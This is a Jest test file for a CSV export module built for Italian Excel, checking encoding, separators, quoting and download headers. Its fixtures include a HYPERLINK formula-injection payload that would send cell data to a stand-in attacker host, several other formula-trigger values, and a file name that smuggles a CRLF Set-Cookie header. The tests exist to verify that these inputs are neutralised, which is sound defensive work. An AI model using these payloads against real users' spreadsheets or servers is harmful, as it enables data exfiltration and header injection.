import { CSV_CONTENT_TYPE, csvAttachment, toCsv } from './csv';

const BOM = '\uFEFF';

describe('CSV for Italian Excel', () => {
  it('starts with a UTF-8 byte order mark and separates cells with ; and rows with CRLF', () => {
    const csv = toCsv(['comune', 'attività'], [['Cesena', 'identità digitale']]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.slice(1)).toBe('comune;attività\r\nCesena;identità digitale\r\n');
  });

  it('writes decimals with a comma, integers and negatives as they are, nothing as an empty cell', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e'], [[0.25, 1234, -3, null, undefined]]).slice(1)).toBe(
      'a;b;c;d;e\r\n0,25;1234;-3;;\r\n',
    );
  });

  it('quotes cells holding ; quotes or line breaks (commas need nothing)', () => {
    expect(toCsv(['x'], [['a;b'], ['di "Cesena"'], ['riga\nnuova'], ['a,b']]).slice(1)).toBe(
      'x\r\n"a;b"\r\n"di ""Cesena"""\r\n"riga\nnuova"\r\na,b\r\n',
    );
  });

  it.each([
    [
      '=HYPERLINK("https://evil.example/?d="&A1;"clic")',
      `"'=HYPERLINK(""https://evil.example/?d=""&A1;""clic"")"`,
    ],
    ['+39 0547 356111', "'+39 0547 356111"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['＝1+1', "'＝1+1"],
  ])('neutralises the formula %j with a leading apostrophe', (value, cell) => {
    expect(toCsv(['x'], [[value]])).toBe(`${BOM}x\r\n${cell}\r\n`);
  });

  it('serves a download as text/csv in UTF-8 with a safe file name', () => {
    expect(csvAttachment('statistics-site-2027-03-01-2027-03-31.csv')).toEqual({
      'Content-Type': CSV_CONTENT_TYPE,
      'Content-Disposition': 'attachment; filename="statistics-site-2027-03-01-2027-03-31.csv"',
    });
    expect(CSV_CONTENT_TYPE).toBe('text/csv; charset=utf-8');
    expect(csvAttachment('a"b\r\nSet-Cookie: x.csv')['Content-Disposition']).toBe(
      'attachment; filename="a-b-Set-Cookie-x.csv"',
    );
  });
});
